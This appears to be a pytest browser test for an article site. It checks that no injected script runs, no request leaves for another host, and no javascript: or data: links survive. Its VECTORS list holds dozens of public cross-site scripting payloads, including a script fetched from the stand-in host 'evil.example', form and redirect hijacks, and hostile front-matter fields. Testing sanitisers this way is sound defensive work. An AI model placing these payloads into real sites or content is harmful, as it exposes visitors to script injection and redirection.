"""Articles that try to run code, in a real browser: no script runs, no request leaves, and the page stays readable."""

import json
import re
from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Dialog, Page, expect

from tests.browser.watch import Watch
from tests.served import Served, a_free_port, serving

# public forms of cross-site scripting, each as an author (or whoever changed the article) might leave it
VECTORS = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>click</text></a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>click</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>click</a>",
    "<a href='java\tscript:alert(1)'>click</a>",
    "<a href=' &#14; javascript:alert(1)'>click</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>click</a>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    '![x](x"onerror="alert\\(1\\))',
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[click]: javascript:alert(1)\n\n[click]",
    "<form action='https://evil.example/'><input name=a><button>click</button></form>",
    "<button formaction='javascript:alert(1)'>click</button>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'; body { background: url(https://evil.example/x.png) }</style>",
    "<p style='background:url(https://evil.example/x.png)'>text</p>",
    '<div style="width: expression(alert(1))">text</div>',
    "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>text</details>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>text</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<x contenteditable onfocus=alert(1) autofocus tabindex=1>text</x>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<p title='a' onclick='alert(1)'>text</p>",
    "<a id=x name=x href=x onmouseover=alert(1)>text</a>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <img src=x onerror=alert(1)>",
    "1. Click <script>alert(1)</script>\n2. Press <img src=x onerror=alert(1)>",
]
HOSTILE = {
    "title": "<script>alert(1)</script>",
    "date": "01-02-2016",
    "author": "<img src=x onerror=alert(1)>",
    "attachments": [{"file_name": "<b>x", "url": "javascript:alert(1)", "type": "x"}],
}
FRONT = {
    "markdown": f"{{{{{{{json.dumps(HOSTILE)}}}}}}}\n",
    "html": f"{{{{{{{json.dumps({**HOSTILE, 'contentIsHTML': True})}}}}}}}\n",
}


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    library = tmp_path_factory.mktemp("library")
    for form, front in FRONT.items():
        (library / form).mkdir(parents=True)
        for number, vector in enumerate(VECTORS):
            text = f"{front}\nBefore.\n\n{vector}\n\nAfter.\n"
            (library / form / f"v{number}.md").write_text(text)
    with serving(library, tmp_path_factory.mktemp("data"), a_free_port()) as served:
        yield served


@pytest.mark.parametrize("form", FRONT)
def test_nothing_in_an_article_runs_or_asks_another_host(
    served: Served, open_page: Callable[..., Page], watch: Watch, form: str
) -> None:
    page = open_page()
    dialogs: list[str] = []

    def note(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", note)
    watch.expected.append("404 (Not Found)")  # pictures that are not there
    for number in range(len(VECTORS)):
        address = f"{served.url}/{form}/v{number}/"
        page.goto(address)
        expect(page.locator(".prose")).to_contain_text(re.compile("Before"))
        for link in page.locator(".prose a").all():
            href = link.get_attribute("href") or ""
            assert not re.match(r"\s*(javascript|data|vbscript):", href, re.I), (number, href)
        assert address == page.url, f"vector {number} led away"
    assert [] == dialogs
    assert [] == watch.faults()
